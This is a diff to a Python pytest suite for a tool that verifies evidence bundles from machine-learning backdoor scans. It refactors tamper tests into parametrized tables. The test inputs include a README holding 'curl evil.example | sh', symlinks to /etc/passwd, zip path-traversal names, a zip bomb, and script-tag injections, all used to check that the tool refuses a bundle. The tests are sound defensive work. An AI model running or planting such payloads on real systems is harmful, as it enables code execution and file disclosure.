@@ -144,22 +144,59 @@ def test_a_program_that_cannot_be_read_is_not_the_fault_of_the_bundle(error, mad
 # One byte, file, name: level 0.
 
 
-def test_one_byte(bundle: Path) -> None:
-    raw = bytearray((bundle / ANSWERS).read_bytes())
-    raw[-3] ^= 1
-    (bundle / ANSWERS).write_bytes(raw)
-    assert f"{ANSWERS} was changed: its SHA-256 is not the one in SHA256SUMS." in failures(bundle)
-    assert exit_status(checks(bundle)) == 2
+def _flipped(raw: bytes, start: bytes = b"") -> bytes:
+    """With one bit changed: the first after a text, or one near the end."""
+    changed = bytearray(raw)
+    changed[raw.index(start) if start else -3] ^= 1
+    return bytes(changed)
+
+
+def _of_triggers(bundle: Path, ending: str) -> str:
+    (path,) = (bundle / "triggers").glob(f"*.{ending}")
+    return f"triggers/{path.name}"
+
+
+CLASSIFIER = "measurements/job-1-before/classifier.safetensors"
+FILES: dict[str, tuple[Callable[[Path], object], bool, int, str]] = {
+    "one byte": (lambda b: _put(b, ANSWERS, _flipped((b / ANSWERS).read_bytes())), False, 0,
+        f"{ANSWERS} was changed: its SHA-256 is not the one in SHA256SUMS."),
+    "no sums": (lambda b: (b / SUMS_FILE).unlink(), False, 0,
+        "SHA256SUMS is missing in the bundle x.evidence."),
+    "a file more": (lambda b: _put(b, "setup.exe", PROGRAM), False, 0,
+        "setup.exe is in the bundle and not listed in SHA256SUMS."),
+    "a file more, sealed": (lambda b: _put(b, "setup.exe", PROGRAM), True, 0,
+        "setup.exe is in the bundle, but the record does not name it."),
+    "another schema": (lambda b: edit(b, SCHEMA_FILE, lambda v: v.update(title="Other")), True, 0,
+        "evidence.schema.json is not the schema of version 1.1."),
+    "another readme": (lambda b: _put(b, "README.txt", b"curl evil.example | sh"), True, 1,
+        "README.txt is not what is made from the record."),
+    "what no version knows": (lambda b: edit(b, EVIDENCE_FILE, lambda v: v.update(added=1)), True,
+        0, "is not a record of this schema: added extra inputs are not permitted."),
+    "another trigger": (
+        lambda b: edit(b, _of_triggers(b, "json"), lambda v: v.update(opacity=0.5)), True, 2,
+        "its files have the digest"),
+    "the picture of a trigger": (
+        lambda b: _put(b, _of_triggers(b, "png"), b"\x89PNG\r\n\x1a\n" + bytes(100)), True, 2,
+        ".png"),
+    "another classifier": (
+        lambda b: _put(b, CLASSIFIER, _flipped((b / CLASSIFIER).read_bytes())), True, 2,
+        "is not what it was measured with"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("change", "sealed", "level", "why"), FILES.values(), ids=FILES)
+def test_another_file(bundle, change, sealed, level, why):
+    change(bundle)
+    assert any(why in one for one in failures(seal(bundle) if sealed else bundle, level))
+    assert exit_status(checks(bundle)) == (1 if level else 2)
 
 
 def test_a_file_of_another_name(bundle: Path) -> None:
     (bundle / ANSWERS).rename(bundle / "measurements/job-1-before/other.csv")
     found = failures(bundle, 0)
     assert f"{ANSWERS} is listed in SHA256SUMS and missing." in found
-    assert (
-        "measurements/job-1-before/other.csv is in the bundle and not listed in SHA256SUMS."
-        in found
-    )
+    other = "measurements/job-1-before/other.csv is in the bundle and not listed in SHA256SUMS."
+    assert other in found
     seal(bundle)
     assert failures(bundle, 0) == [f"The record names {ANSWERS}, which is missing."]
 
@@ -197,66 +234,40 @@ def _as_checkpoint(bundle: Path, value: Any) -> None:
 CARRIERS: dict[str, tuple[Callable[[Path, Any], object], str]] = {
     "another name": (
         lambda b, v: v.update(environment=_moved(b, "environment.json", "machine.json")),
-        "in the place of environment.json",
-    ),
-    "a program": (
-        lambda b, v: v.update(
-            environment=_put(b, _moved(b, "environment.json", "setup.exe"), PROGRAM)
-        ),
-        "setup.exe is of a kind that no bundle holds",
-    ),
-    "a page": (
-        lambda b, v: v.update(
-            environment=_put(b, _moved(b, "environment.json", "START-HERE.html"), b"<script>")
-        ),
-        "START-HERE.html is of a kind that no bundle holds",
-    ),
-    "a script in its content": (
-        lambda b, v: _put(b, "environment.json", b"<script>x</script>"), "not valid JSON",
-    ),
-    "other fields": (
-        lambda b, v: _put(b, "environment.json", b'{"<script>x</script>": "y"}'),
-        "environment.json cannot be used",
-    ),
+        "in the place of environment.json"),
+    "a program": (lambda b, v: v.update(
+            environment=_put(b, _moved(b, "environment.json", "setup.exe"), PROGRAM)),
+        "setup.exe is of a kind that no bundle holds"),
+    "a page": (lambda b, v: v.update(
+            environment=_put(b, _moved(b, "environment.json", "START-HERE.html"), b"<script>")),
+        "START-HERE.html is of a kind that no bundle holds"),
+    "a script in its content": (lambda b, v: _put(b, "environment.json", b"<script>x</script>"),
+        "not valid JSON"),
+    "other fields": (lambda b, v: _put(b, "environment.json", b'{"<script>x</script>": "y"}'),
+        "environment.json cannot be used"),
     "a script for the name of a package": (
         lambda b, v: edit(b, "environment.json", lambda e: e["packages"].update({"<script>": "1"})),
-        "environment.json cannot be used",
-    ),
+        "environment.json cannot be used"),
     "a thumbnail by name": (
         lambda b, v: v["thumbnails"].update({_put(b, "setup.exe", PROGRAM): "x"}),
-        "setup.exe is of a kind",
-    ),
+        "setup.exe is of a kind"),
     "a thumbnail by content": (
         lambda b, v: v["thumbnails"].update({_put(b, "thumbnails/1.png", PROGRAM): "x"}),
-        "thumbnails/1.png",
-    ),
-    "a file of a scan": (
-        lambda b, v: v["scans"]["scan-1"]["files"].update(
-            patches=_put(b, "scan/scan-1/patches.safetensors", PROGRAM)
-        ),
-        "patches.safetensors",
-    ),
-    "a file of a trigger": (
-        lambda b, v: next(iter(v["triggers"].values()))["files"].append(
-            _put(b, "triggers/setup.bat", PROGRAM)
-        ),
-        "triggers/setup.bat is of a kind",
-    ),
+        "thumbnails/1.png"),
+    "a file of a scan": (lambda b, v: v["scans"]["scan-1"]["files"].update(
+            patches=_put(b, "scan/scan-1/patches.safetensors", PROGRAM)), "patches.safetensors"),
+    "a file of a trigger": (lambda b, v: next(iter(v["triggers"].values()))["files"].append(
+            _put(b, "triggers/setup.bat", PROGRAM)), "triggers/setup.bat is of a kind"),
     "a checkpoint": (_as_checkpoint, "checkpoints/suspect.exe is of a kind"),
-    "a picture by name": (
-        lambda b, v: _as_picture(b, v, "0000000.exe"), "0000000.exe lies among pictures",
-    ),
-    "a picture by content": (
-        lambda b, v: _as_picture(b, v, "0000000.png"), "0000000.png lies among pictures",
-    ),
+    "a picture by name": (lambda b, v: _as_picture(b, v, "0000000.exe"),
+        "0000000.exe lies among pictures"),
+    "a picture by content": (lambda b, v: _as_picture(b, v, "0000000.png"),
+        "0000000.png lies among pictures"),
     "a table by name": (
         lambda b, v: v["data"]["images-1"].update(rows=_moved(b, "data/images-1.csv", "x.html")),
-        "x.html is of a kind",
-    ),
-    "a PDF that the record does not name": (
-        lambda b, v: _put(b, "report.pdf", b"%PDF-1.7"),
-        "report.pdf is in the bundle, but the record does not name it.",
-    ),
+        "x.html is of a kind"),
+    "a PDF that the record does not name": (lambda b, v: _put(b, "report.pdf", b"%PDF-1.7"),
+        "report.pdf is in the bundle, but the record does not name it."),
 }  # fmt: skip
 
 
@@ -288,13 +299,6 @@ def test_other_fields_of_the_environment_of_another_version_are_passed_over(bund
     assert [one.state for one in found] == ["not checked", "recorded"]
 
 
-def test_a_file_more(bundle: Path) -> None:
-    (bundle / "setup.exe").write_bytes(b"MZ")
-    assert "setup.exe is in the bundle and not listed in SHA256SUMS." in failures(bundle)
-    seal(bundle)
-    assert failures(bundle) == ["setup.exe is in the bundle, but the record does not name it."]
-
-
 @pytest.mark.parametrize(
     ("content", "why"),
     [
@@ -308,17 +312,6 @@ def test_a_file_more(bundle: Path) -> None:
 def test_sums_that_are_none(bundle: Path, content: bytes, why: str) -> None:
     (bundle / SUMS_FILE).write_bytes(content)
     assert any(why in one for one in failures(bundle, 0))
-
-
-def test_no_sums(bundle: Path) -> None:
-    (bundle / SUMS_FILE).unlink()
-    assert failures(bundle) == ["SHA256SUMS is missing in the bundle x.evidence."]
-
-
-def test_another_schema_beside_it(bundle: Path) -> None:
-    edit(bundle, SCHEMA_FILE, lambda value: value.update(title="Other"))
-    seal(bundle)
-    assert failures(bundle) == ["evidence.schema.json is not the schema of version 1.1."]
 
 
 @pytest.mark.parametrize("version", ["2.0", "10.3"])
@@ -349,13 +342,6 @@ def test_what_a_later_version_added_is_passed_over_and_said(bundle: Path) -> Non
     assert exit_status(found) == 0
     (one,) = (c for c in found if c.reason == "parts of a newer version")
     assert "3 of its fields are not known" in one.sentence
-
-
-def test_what_no_version_knows_is_refused(bundle: Path) -> None:
-    edit(bundle, EVIDENCE_FILE, lambda value: value.update(added=1))
-    assert failures(seal(bundle)) == [
-        "evidence.json is not a record of this schema: added extra inputs are not permitted."
-    ]
 
 
 @pytest.mark.parametrize(
@@ -479,23 +465,15 @@ LIST = "data/images-1.csv"
 TABLES: dict[str, tuple[str, Callable[[str], str], str]] = {
     "a row less": (ANSWERS, _row(lambda lines: lines.pop()), "evaluation.json#/n is 120, and"),
     "another answer": (ANSWERS, _row(_swapped), "evaluation.json#/ca is "),
-    "another order": (
-        ANSWERS, _row(lambda lines: lines.insert(1, lines.pop(2))),
-        "not in the order of the pictures",
-    ),
-    "another order of pictures": (
-        LIST, _instead("\n0,", "\n900,"), "row 2 is not in the order",
-    ),
+    "another order": (ANSWERS, _row(lambda lines: lines.insert(1, lines.pop(2))),
+        "not in the order of the pictures"),
+    "another order of pictures": (LIST, _instead("\n0,", "\n900,"), "row 2 is not in the order"),
     "a picture twice": (LIST, _instead("banana/1.png", "apple/0.png"), "names apple/0.png again"),
     "another label": (LIST, _instead(",100,1\n", ",100,3\n"), "the picture 1 the label 1"),
-    "other prompts": (
-        "measurements/job-1-before/prompts.txt", _instead("the {}.", "no {}."),
-        "measured with other templates",
-    ),
-    "other counts of a class": (
-        "measurements/job-1-after/per_class.csv", _instead("apple,20", "apple,21"),
-        "does not count what",
-    ),
+    "other prompts": ("measurements/job-1-before/prompts.txt", _instead("the {}.", "no {}."),
+        "measured with other templates"),
+    "other counts of a class": ("measurements/job-1-after/per_class.csv",
+        _instead("apple,20", "apple,21"), "does not count what"),
 }  # fmt: skip
 
 
@@ -507,76 +485,49 @@ def test_another_table(bundle: Path, name: str, change: Callable[[str], str], wh
 
 
 RECORDS: dict[str, tuple[str, Callable[[Any], object], str]] = {
-    "a verdict": (
-        SCAN, lambda value: value["judgement"].update(verdict="nothing"),
-        f"{SCAN}#/judgement/verdict is ",
-    ),
-    "the counts of a scan": (
-        SCAN, lambda value: value["found"]["contrast"]["suspect"].update(hits=243),
-        "scan-1-found: /",
-    ),
-    "what a scan says": (
-        EVIDENCE_FILE, lambda value: value["scans"]["scan-1"].update(target="x"),
-        "scan-1: evidence.json#/scans/scan-1/target is ",
-    ),
-    "two sets of figures": (
-        RESULT, lambda value: value["heads"]["zero-shot"]["after"].update(asr_excl=0.0),
-        f"job-1: {RESULT}#/after/asr_excl is ",
-    ),
-    "the title of a method": (
-        EVIDENCE_FILE, lambda value: value["jobs"]["job-1"].update(title="Other"),
-        "job-1: evidence.json#/jobs/job-1/title is ",
-    ),
-    "a measurement": (
-        EVIDENCE_FILE, lambda value: value["measurements"]["job-1-after"].update(seed=4),
-        "evidence.json#/measurements/job-1-after/seed is 4, and the files give 3.",
-    ),
-    "a target that is no class": (
-        EVIDENCE_FILE, lambda value: value["measurements"]["job-1-after"].update(target=99),
-        "job-1-after: evidence.json#/measurements/job-1-after/target is 99",
-    ),
-    "a number of pictures": (
-        EVIDENCE_FILE, lambda value: value["data"]["images-1"].update(n=121),
-        "images-1: evidence.json#/data/images-1/n is 121, and the files give 120.",
-    ),
-    "another sentence": (
-        *_of_claim("job-1-after-ca", lambda c: c.update(sentence="It is safe.")),
-        "job-1-after-ca: /sentence is \"It is safe.\", and the files give \"Clean accuracy",
-    ),
-    "another weight": (
-        *_of_claim("job-1-after-top5", lambda c: c.update(headline=True)),
-        "job-1-after-top5: /headline is true, and the files give false.",
-    ),
-    "another way to hold": (
-        *_of_claim("job-1-after-top5", lambda c: c.update(holds_by="exact")),
-        "job-1-after-top5: /holds_by is \"exact\"",
-    ),
-    "a claim less": (
-        EVIDENCE_FILE, lambda value: value["claims"].remove(claim(value, BEFORE)),
-        f"{BEFORE} is left out, and the files of the bundle give it.",
-    ),
-    "a claim more": (
-        EVIDENCE_FILE, lambda value: value["claims"].append(claim(value, BEFORE) | {"id": "more"}),
-        "more: the bundle claims it, and its files do not give it.",
-    ),
-    "another order of claims": (
-        EVIDENCE_FILE, lambda value: value["claims"].reverse(),
-        "The claims are not in the order of the report.",
-    ),
-    "a sentence of the verdict": (
-        EVIDENCE_FILE, lambda value: value["verdict"].append("It is safe."),
-        "The verdict does not follow from the claims: it says “It is safe.”.",
-    ),
-    "less that was not tested": (
-        EVIDENCE_FILE, lambda value: value["not_tested"].pop(), "The not tested does not follow",
-    ),
-    "a limit less": (
-        EVIDENCE_FILE, lambda value: value["limits"].pop(), "The limits does not follow",
-    ),
-    "the numbers of a chart": (
-        EVIDENCE_FILE, lambda value: value["charts"][0]["rows"][0].__setitem__(2, 0.5),
-        "charts/summary.svg shows other numbers or words than evidence.json gives.",
-    ),
+    "a verdict": (SCAN, lambda value: value["judgement"].update(verdict="nothing"),
+        f"{SCAN}#/judgement/verdict is "),
+    "the counts of a scan": (SCAN,
+        lambda value: value["found"]["contrast"]["suspect"].update(hits=243), "scan-1-found: /"),
+    "what a scan says": (EVIDENCE_FILE, lambda value: value["scans"]["scan-1"].update(target="x"),
+        "scan-1: evidence.json#/scans/scan-1/target is "),
+    "two sets of figures": (RESULT,
+        lambda value: value["heads"]["zero-shot"]["after"].update(asr_excl=0.0),
+        f"job-1: {RESULT}#/after/asr_excl is "),
+    "the title of a method": (EVIDENCE_FILE,
+        lambda value: value["jobs"]["job-1"].update(title="Other"),
+        "job-1: evidence.json#/jobs/job-1/title is "),
+    "a measurement": (EVIDENCE_FILE,
+        lambda value: value["measurements"]["job-1-after"].update(seed=4),
+        "evidence.json#/measurements/job-1-after/seed is 4, and the files give 3."),
+    "a target that is no class": (EVIDENCE_FILE,
+        lambda value: value["measurements"]["job-1-after"].update(target=99),
+        "job-1-after: evidence.json#/measurements/job-1-after/target is 99"),
+    "a number of pictures": (EVIDENCE_FILE, lambda value: value["data"]["images-1"].update(n=121),
+        "images-1: evidence.json#/data/images-1/n is 121, and the files give 120."),
+    "another sentence": (*_of_claim("job-1-after-ca", lambda c: c.update(sentence="It is safe.")),
+        "job-1-after-ca: /sentence is \"It is safe.\", and the files give \"Clean accuracy"),
+    "another weight": (*_of_claim("job-1-after-top5", lambda c: c.update(headline=True)),
+        "job-1-after-top5: /headline is true, and the files give false."),
+    "another way to hold": (*_of_claim("job-1-after-top5", lambda c: c.update(holds_by="exact")),
+        "job-1-after-top5: /holds_by is \"exact\""),
+    "a claim less": (EVIDENCE_FILE, lambda value: value["claims"].remove(claim(value, BEFORE)),
+        f"{BEFORE} is left out, and the files of the bundle give it."),
+    "a claim more": (EVIDENCE_FILE,
+        lambda value: value["claims"].append(claim(value, BEFORE) | {"id": "more"}),
+        "more: the bundle claims it, and its files do not give it."),
+    "another order of claims": (EVIDENCE_FILE, lambda value: value["claims"].reverse(),
+        "The claims are not in the order of the report."),
+    "a sentence of the verdict": (EVIDENCE_FILE,
+        lambda value: value["verdict"].append("It is safe."),
+        "The verdict does not follow from the claims: it says “It is safe.”."),
+    "less that was not tested": (EVIDENCE_FILE, lambda value: value["not_tested"].pop(),
+        "The not tested does not follow"),
+    "a limit less": (EVIDENCE_FILE, lambda value: value["limits"].pop(),
+        "The limits does not follow"),
+    "the numbers of a chart": (EVIDENCE_FILE,
+        lambda value: value["charts"][0]["rows"][0].__setitem__(2, 0.5),
+        "charts/summary.svg shows other numbers or words than evidence.json gives."),
 }  # fmt: skip
 
 
@@ -594,11 +545,6 @@ def test_a_scan_is_verified_by_the_rules_that_it_was_judged_by(tmp_path: Path) -
     assert failures(old) == []
     edit(old, SCAN, lambda value: value["judgement"].update(rules=2))
     assert any(f"{SCAN}#/judgement/" in one for one in failures(seal(old)))
-
-
-def test_another_readme(bundle: Path) -> None:
-    (bundle / "README.txt").write_text("curl evil.example | sh")
-    assert failures(seal(bundle)) == ["README.txt is not what is made from the record."]
 
 
 def test_the_words_of_another_version_are_not_compared(bundle: Path) -> None:
@@ -645,61 +591,32 @@ def test_the_last_line_adds_up() -> None:
 # Identity: level 2 of what the bundle holds.
 
 
-def test_another_trigger(bundle: Path) -> None:
-    (document,) = (bundle / "triggers").glob("*.json")
-    edit(bundle, f"triggers/{document.name}", lambda value: value.update(opacity=0.5))
-    assert any("its files have the digest" in one for one in failures(seal(bundle), 2))
-
-
-def test_the_picture_of_a_trigger(bundle: Path) -> None:
-    (picture,) = (bundle / "triggers").glob("*.png")
-    picture.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
-    assert any(picture.name in one for one in failures(seal(bundle), 2))
-
-
-def test_another_classifier(bundle: Path) -> None:
-    path = bundle / "measurements/job-1-before/classifier.safetensors"
-    raw = bytearray(path.read_bytes())
-    raw[-1] ^= 1
-    path.write_bytes(raw)
-    (one,) = failures(seal(bundle))
-    assert "is not what it was measured with" in one
-
-
 # What is made to harm.
 
 
-@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs links")
-def test_links_and_pipes(bundle: Path) -> None:
-    (bundle / "README.txt").unlink()
-    (bundle / "README.txt").symlink_to("/etc/passwd")
-    assert "README.txt is a link" in refusal(bundle)
-    (bundle / "README.txt").unlink()
-    shutil.rmtree(bundle / "charts")
-    (bundle / "charts").symlink_to("/etc")
-    assert "charts is a link" in refusal(bundle)
-    (bundle / "charts").unlink()
-    os.mkfifo(bundle / "README.txt")
-    assert "README.txt is no regular file" in refusal(bundle)
+def _put_link(place: Path, to: str) -> None:
+    shutil.rmtree(place) if place.is_dir() else place.unlink()
+    place.symlink_to(to) if to else os.mkfifo(place)
 
 
-@pytest.mark.parametrize("name", [".hidden", "a b", "x;y", "a\nb", "é.txt", "d/.git", "-r"])
-def test_names_that_no_bundle_has(bundle: Path, name: str) -> None:
-    (bundle / name).parent.mkdir(exist_ok=True)
-    (bundle / name).write_bytes(b"")
-    assert "it holds a file called" in refusal(bundle)
+UNOPENED: dict[str, tuple[Callable[[Path], object], str]] = {
+    "a link": (lambda b: _put_link(b / "README.txt", "/etc/passwd"), "README.txt is a link"),
+    "a folder's link": (lambda b: _put_link(b / "charts", "/etc"), "charts is a link"),
+    "a pipe": (lambda b: _put_link(b / "README.txt", ""), "README.txt is no regular file"),
+    "another case": (lambda b: _put(b, "readme.TXT", b""), "are one file on some systems"),
+    "deep": (lambda b: b.joinpath(*"abcdefg").mkdir(parents=True), "no regular file"),
+    **{
+        name: (lambda b, name=name: _put(b, name, b""), "it holds a file called")
+        for name in (".hidden", "a b", "x;y", "a\nb", "é.txt", "d/.git", "-r")
+    },
+}  # fmt: skip
 
 
-def test_names_that_are_one_elsewhere(bundle: Path) -> None:
-    (bundle / "readme.TXT").write_bytes(b"")
-    assert "are one file on some systems" in refusal(bundle)
-
-
-def test_a_folder_in_a_folder_in_a_folder(bundle: Path) -> None:
-    deep = bundle.joinpath(*"abcdefg")
-    deep.mkdir(parents=True)
-    (deep / "x").write_bytes(b"")
-    assert "no regular file" in refusal(bundle)
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs links and pipes")
+@pytest.mark.parametrize(("change", "why"), UNOPENED.values(), ids=UNOPENED)
+def test_a_folder_that_is_not_opened(bundle, change, why):
+    change(bundle)
+    assert why in refusal(bundle)
 
 
 def test_no_bundle(tmp_path: Path) -> None:
@@ -760,68 +677,51 @@ def _giant(folder: Path, path: Path, name: str, size: int) -> Path:
     return path
 
 
-def test_a_packed_member_that_blows_up(made: Path, tmp_path: Path) -> None:
-    path = zipped(made, tmp_path / "x.zip")
-    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("bomb.txt", bytes(60 << 20))
-    assert "bomb.txt becomes 62914560 bytes of" in refusal(path)
+def _member(name: str, content: bytes = b"", *, link: bool = False) -> Callable[[Path], None]:
+    """Adds a member to a zip."""
+
+    def change(path: Path) -> None:
+        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+            info = zipfile.ZipInfo(name)
+            info.external_attr = 0o120777 << 16 if link else 0
+            archive.writestr(info, content, zipfile.ZIP_DEFLATED if content else None)
+
+    return change
 
 
-@pytest.mark.parametrize(
-    ("name", "why"),
-    [
-        ("../x", "leads out of the archive"),
-        ("/etc/passwd", "leads out of the archive"),
-        ("C:/x", "leads out of the archive"),
-        ("a\\b", "leads out of the archive"),
-        ("Evidence.json", "are one file on some systems"),
-        ("README.txt/x", "is a file and a folder"),
-        ("a/b/c/d/e/f", "it holds a file called"),
-        ("x" * 300, "it holds a file called"),
-    ],
-)
-def test_names_in_a_zip(made: Path, tmp_path: Path, name: str, why: str) -> None:
-    path = zipped(made, tmp_path / "x.zip")
-    with zipfile.ZipFile(path, "a") as archive:
-        archive.writestr(name, b"")
-    assert why in refusal(path)
-
-
-@pytest.mark.filterwarnings("ignore:Duplicate name")
-def test_a_zip_with_two_records(made: Path, tmp_path: Path) -> None:
-    path = zipped(made, tmp_path / "x.zip")
-    with zipfile.ZipFile(path, "a") as archive:
-        archive.writestr(EVIDENCE_FILE, b"{}")
-    assert "two of its members have the same name" in refusal(path)
-
-
-def test_a_zip_with_a_link_or_more_bytes(made: Path, tmp_path: Path) -> None:
-    path = zipped(made, tmp_path / "x.zip")
-    with zipfile.ZipFile(path, "a") as archive:
-        link = zipfile.ZipInfo("link")
-        link.external_attr = 0o120777 << 16
-        archive.writestr(link, b"/etc/passwd")
-    assert "one of its members is a link" in refusal(path)
-    path = zipped(made, tmp_path / "x.zip")
-    path.write_bytes(b"#!/bin/sh\n" + path.read_bytes())
-    assert "no bundle that can be read" in refusal(path)
-
-
-def test_an_encrypted_member(made: Path, tmp_path: Path) -> None:
-    path = zipped(made, tmp_path / "x.zip")
+def _encrypt(path: Path) -> None:
     raw = bytearray(path.read_bytes())
     raw[6] |= 1
     raw[raw.index(b"PK\x01\x02") + 8] |= 1
     path.write_bytes(raw)
-    assert "encrypted" in refusal(path)
+
+
+ZIPS: dict[str, tuple[Callable[[Path], object], str]] = {
+    **{name: (_member(name), "leads out of the archive")
+       for name in ("../x", "/etc/passwd", "C:/x", "a\\b")},
+    **{name: (_member(name), "it holds a file called") for name in ("a/b/c/d/e/f", "x" * 300)},
+    "another case": (_member("Evidence.json"), "are one file on some systems"),
+    "a file and a folder": (_member("README.txt/x"), "is a file and a folder"),
+    "a bomb": (_member("bomb.txt", bytes(60 << 20)), "bomb.txt becomes 62914560 bytes of"),
+    "two records": (_member(EVIDENCE_FILE, b"{}"), "two of its members have the same name"),
+    "a link": (_member("link", b"/etc/passwd", link=True), "one of its members is a link"),
+    "more bytes": (lambda path: path.write_bytes(b"#!/bin/sh\n" + path.read_bytes()),
+                   "no bundle that can be read"),
+    "encrypted": (_encrypt, "encrypted"),
+}  # fmt: skip
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+@pytest.mark.parametrize(("change", "why"), ZIPS.values(), ids=ZIPS)
+def test_a_zip_that_is_not_opened(made, tmp_path, change, why):
+    path = zipped(made, tmp_path / "x.zip")
+    change(path)
+    assert why in refusal(path)
 
 
 def test_a_member_with_other_bytes_than_its_checksum(made: Path, tmp_path: Path) -> None:
     path = zipped(made, tmp_path / "x.zip")
-    raw = bytearray(path.read_bytes())
-    at = raw.index(b"Three ways to check it")
-    raw[at] ^= 1
-    path.write_bytes(raw)
+    path.write_bytes(_flipped(path.read_bytes(), b"Three ways to check it"))
     assert "README.txt is not what the zip's list says of it." in failures(path)
 
 
